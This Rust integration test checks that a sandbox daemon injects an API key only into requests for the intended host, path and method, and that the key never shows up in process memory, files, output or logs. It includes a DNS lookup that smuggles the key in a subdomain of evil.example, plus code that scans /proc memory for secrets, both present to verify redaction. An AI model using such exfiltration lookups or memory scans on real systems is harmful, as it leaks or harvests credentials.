//! A key that is put into requests goes to the host, path and method that it is for, in the place of whatever the
//! command wrote there, and to nobody else: no other host, no other path, not where a redirect leads. It is
//! looked for in every process inside, its memory, its files, in what the host says back and in all that
//! sandboxd says and writes, and is not there.

use anyhow::{Context as _, Result, ensure};
use sandboxd_integration::world::{IP, World};
use sandboxd_integration::{Case, Inside, Need, Outside, Sandbox};
use serde_json::Value;
use std::fs;
use std::io::{BufRead as _, BufReader, Read as _, Seek as _, SeekFrom};
use std::net::Ipv4Addr;
use std::os::unix::fs::PermissionsExt as _;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};

const HOSTS: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/hosts/wants_a_key.py");
const SOMEWHERE: Ipv4Addr = Ipv4Addr::new(203, 0, 113, 7);
const KEY: &str = "sk-hunter2-0123456789-abcdefghij";

pub(crate) const CASE: Case = Case {
    rows: &["N16", "N17", "E22", "Z5", "Z6", "R3", "R4", "S6"],
    needs: &[
        Need::Program(IP),
        Need::Program("/usr/bin/openssl"),
        Need::Program("/usr/bin/curl"),
        Need::Program("/usr/bin/node"),
        Need::Program("/usr/bin/python3"),
    ],
    seconds: 240,
    outside,
    probes: &[("look", look)],
    ..Case::NEW
};

/// Each, and what it does; all of them are answered with `welcome`.
const PROGRAMS: [(&str, &str); 5] = [
    ("curl", "curl -sSf https://api.example/v1/tidings"),
    ("curl with a key of its own", "curl -sSf -H 'Authorization: Bearer mine' -H 'AUTHORIZATION: twice' https://api.example/v1/tidings"),
    (
        "Python",
        "python3 -c 'import urllib.request as r; print(r.urlopen(r.Request(\"https://api.example/v1/tidings\", b\"{}\", {\"authorization\": \"Bearer x\"})).read())'",
    ),
    (
        "Node",
        "node -e 'fetch(\"https://api.example/v1/tidings\", {headers: {authorization: \"Bearer x\"}}).then(r => r.text()).then(console.log)'",
    ),
    ("a query", "curl -sSf 'https://query.example/v1/tidings?a=1&%6Bey=mine'"),
];

/// What does not get it: another host, another path, another method, where a redirect leads.
const NOT_THIS: [(&str, &str); 4] = [
    ("another host", "curl -sS https://other.example/v1/tidings"),
    ("another path", "curl -sS https://api.example/v2/tidings"),
    ("another method", "curl -sS -X DELETE https://query.example/v1/tidings"),
    ("a redirect", "curl -sSL https://api.example/v1/away"),
];

fn outside(outside: &Outside) -> Result<()> {
    let names = ["api", "other", "query", "git"].map(|name| format!("{name}.example"));
    let hosts: Vec<(&str, Ipv4Addr)> =
        names.iter().map(|name| (name.as_str(), SOMEWHERE)).collect();
    let mut world = World::enter(outside, &hosts)?;
    let serving = Serving::begin(&outside.dir().join("hosts"))?;
    world.trust(outside, &serving.folder.join("ca.pem"))?;
    let workspace = outside.workspace()?;
    let key = outside.dir().join("key");
    fs::write(&key, format!("{KEY}\n"))?;
    fs::set_permissions(&key, fs::Permissions::from_mode(0o400))?;
    let profile = profile(&key);
    let sandbox = || outside.sandbox(&profile).cwd(&workspace);
    for (name, line) in PROGRAMS {
        let run = sandbox().command(&["sh", "-c", line]).run()?;
        run.exited(0).with_context(|| name)?;
        ensure!(run.stdout.contains("welcome"), "{name} got {:?}, {}", run.stdout, run.stderr);
        ensure!(!run.stderr.contains(KEY) && !run.stdout.contains(KEY), "{name} was told it");
    }
    for asked in serving.asked()? {
        ensure!(asked.key == 1 && asked.authorization <= 1, "asked with {asked:?}");
    }
    for (name, line) in NOT_THIS {
        serving.forget()?;
        let run = sandbox().command(&["sh", "-c", line]).run()?;
        run.exited(0).with_context(|| name)?;
        ensure!(run.stdout.contains("who are you?"), "{name} got {:?}, {}", run.stdout, run.stderr);
        let last = serving.asked()?.pop().context("nobody asked")?;
        ensure!(last.key == 0, "{name} got the key: {last:?}");
    }
    is_not_inside(&sandbox)
}

fn profile(key: &Path) -> String {
    let near = |name: &str| format!("{{ to = \"{name}.example:443\", within = [\"203.0.113.7/32\"] }}");
    format!(
        "extends = [\"builtin:coding-agent\"]\n[network]\nmode = \"egress\"\negress = [{}, {}, {}]\n\
         [secrets.model]\nfrom = \"file:{}\"\ninject = [\n\
         {{ host = \"api.example\", path = \"/v1/*\", header = \"Authorization\", format = \"Bearer {{}}\" }},\n\
         {{ host = \"query.example\", method = \"GET\", query = \"key\" }},\n]\n",
        near("api"),
        near("other"),
        near("query"),
        key.display(),
    )
}

/// Neither while it is used, nor in what is left.
fn is_not_inside<'a>(sandbox: &dyn Fn() -> Sandbox<'a>) -> Result<()> {
    let run = sandbox().probe("look", &[]).run()?;
    run.ran()?;
    ensure!(run.fact("answered")?.contains("authorization"), "nothing came back");
    for fact in ["answered", "found"] {
        ensure!(!run.fact(fact)?.contains("hunter2"), "{fact}: {}", run.fact(fact)?);
    }
    ensure!(run.fact("found")?.is_empty(), "found in {}", run.fact("found")?);
    ensure!(run.fact("searched")?.parse::<u32>()? > 20, "hardly anything was searched");
    let receipt = fs::read_to_string(run.folder().join("receipt"))?;
    ensure!(receipt.contains("model") && !receipt.contains("hunter2"), "{receipt}");
    let plan = sandbox().verb("plan").option("--json");
    let plan = plan.command(&["/bin/true"]).run()?;
    plan.exited(0)?;
    ensure!(plan.stdout.contains("authorization") && !plan.stdout.contains("hunter2"), "the plan");
    // A name that has it: what is said of it at the end has not.
    let asks = "getent hosts sk-hunter2-0123456789-abcdefghij.evil.example || true";
    let run = sandbox().command(&["sh", "-c", asks]).run()?;
    run.exited(0)?;
    ensure!(run.stderr.contains("«secret:model»"), "{}", run.stderr);
    let grep = Command::new("/usr/bin/grep")
        .args(["-rlsF", "hunter2-0123456789", "/run/sandboxd", "/dev/shm", "/var/lib/sandboxd"])
        .output()?;
    let found = String::from_utf8(grep.stdout)?;
    ensure!(found.is_empty(), "{found} has it");
    Ok(())
}

/// What a host was asked.
#[derive(Debug)]
struct Asked {
    /// How often the key was in it.
    key: usize,
    /// Fields of the place that it goes to.
    authorization: usize,
}

/// The hosts.
struct Serving {
    child: Child,
    folder: PathBuf,
}

impl Serving {
    fn begin(folder: &Path) -> Result<Self> {
        let mut child = Command::new("/usr/bin/python3")
            .args([HOSTS.as_ref(), folder.as_os_str()])
            .args([&SOMEWHERE.to_string(), KEY])
            .stdout(Stdio::piped())
            .spawn()
            .context("the hosts")?;
        let stdout = child.stdout.take().context("no output")?;
        let serving = Self { child, folder: folder.to_owned() };
        let mut line = String::new();
        BufReader::new(stdout).read_line(&mut line)?;
        ensure!(line == "ready\n", "the hosts said {line:?}");
        Ok(serving)
    }

    fn forget(&self) -> Result<()> {
        Ok(fs::write(self.folder.join("asked"), "")?)
    }

    fn asked(&self) -> Result<Vec<Asked>> {
        let text = fs::read_to_string(self.folder.join("asked"))?;
        let asked = text.lines().map(|line| {
            let asked: Value = serde_json::from_str(line)?;
            let head = asked.get("head").and_then(Value::as_array).context("no head")?;
            let is_it = |field: &&Value| field.get(0).and_then(Value::as_str) == Some("authorization");
            let authorization = head.iter().filter(is_it).count();
            Ok(Asked { key: line.matches(KEY).count(), authorization })
        });
        asked.collect()
    }
}

impl Drop for Serving {
    fn drop(&mut self) {
        // One that is gone already is what is wanted.
        self.child.kill().ok();
        self.child.wait().ok();
    }
}

/// Uses the key, has the host send back what it was asked with, and looks for it everywhere.
fn look(inside: &Inside) -> Result<()> {
    let curl = Command::new("curl").args(["-sS", "https://api.example/v1/echo"]).output()?;
    let said = [curl.stdout, curl.stderr].concat();
    inside.fact("answered", String::from_utf8_lossy(&said).trim());
    let (mut found, mut searched) = (Vec::new(), 0);
    for process in fs::read_dir("/proc")?.flatten().map(|entry| entry.path()) {
        for name in ["environ", "cmdline", "maps", "mountinfo", "status", "stack"] {
            searched += u32::from(holds(&process.join(name), &mut found));
        }
        // Its own has the words that are looked for.
        let number: Option<u32> = process.file_name().and_then(|name| name.to_str()?.parse().ok());
        if number.is_some_and(|number| number != std::process::id()) {
            searched += u32::from(memory(&process, &mut found));
        }
    }
    for folder in ["/run", "/tmp", "/etc", "/dev/shm", "/home"] {
        searched += files(Path::new(folder), &mut found, 0);
    }
    inside.fact("found", &found.join(" "));
    inside.fact("searched", &searched.to_string());
    Ok(())
}

/// The middle of it, so that this program's own words are no find.
fn is_it(bytes: &[u8]) -> bool {
    let wanted = ["hunt", "er2-01234"].concat();
    bytes.windows(wanted.len()).any(|window| window == wanted.as_bytes())
}

fn holds(path: &Path, found: &mut Vec<String>) -> bool {
    let Ok(bytes) = fs::read(path) else { return false };
    if is_it(&bytes) {
        found.push(path.display().to_string());
    }
    true
}

/// What can be read of another process's memory.
fn memory(process: &Path, found: &mut Vec<String>) -> bool {
    let Ok(maps) = fs::read_to_string(process.join("maps")) else { return false };
    let Ok(mut file) = fs::File::open(process.join("mem")) else { return false };
    for line in maps.lines() {
        let range = line.split(' ').next().and_then(|range| range.split_once('-'));
        let number = |text| u64::from_str_radix(text, 16).ok();
        let Some((Some(from), Some(to))) = range.map(|(from, to)| (number(from), number(to))) else {
            continue;
        };
        let mut bytes = Vec::new();
        if file.seek(SeekFrom::Start(from)).is_ok() {
            // What cannot be read to its end is read as far as it goes.
            file.by_ref().take(to.saturating_sub(from).min(64 << 20)).read_to_end(&mut bytes).ok();
        }
        if is_it(&bytes) {
            found.push(format!("{}/mem", process.display()));
        }
    }
    true
}

fn files(folder: &Path, found: &mut Vec<String>, depth: u32) -> u32 {
    let Ok(entries) = fs::read_dir(folder) else { return 0 };
    let mut searched = 0;
    for entry in entries.flatten() {
        let path = entry.path();
        let Ok(kind) = entry.file_type() else { continue };
        if kind.is_dir() && depth < 6 {
            searched += files(&path, found, depth + 1);
        } else if kind.is_file() {
            searched += u32::from(holds(&path, found));
        }
    }
    searched
}
